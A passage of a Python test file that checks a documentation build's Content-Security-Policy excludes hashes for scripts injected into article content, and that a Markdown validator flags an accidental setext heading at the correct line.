            f"<script>{theme}</script></head><body><article class=\"md-content__inner\">"
            f"<p>Text</p><script>{injected}</script></article></body></html>")
    policy = fill_policy(page).split('content="', 1)[1].split('"', 1)[0]
    script_src = next(d for d in policy.split("; ") if d.startswith("script-src"))
    assert _hash(theme) in script_src
    assert _hash(injected) not in script_src


def test_an_accidental_setext_heading_is_reported_as_a_heading_at_its_line():
    """A text line with --- under it renders as <h2>, which a section may not hold: the message says why."""
    vocabulary, _ = load_vocabulary(REPO)
    snippet = "title: inte front matter\n---"
    text = hostile_text(snippet)
    source, _ = load_source("methods/x.md", "x", text.encode())
    _, problems = validate_source(source, vocabulary, TODAY)
    found = [p for p in problems if p.code == "html-not-allowed"]
    assert [p.line for p in found] == [line_of(text, snippet) + 1], problems  # the line of the ---
    assert "###" in found[0].message and "tom rad" in found[0].message
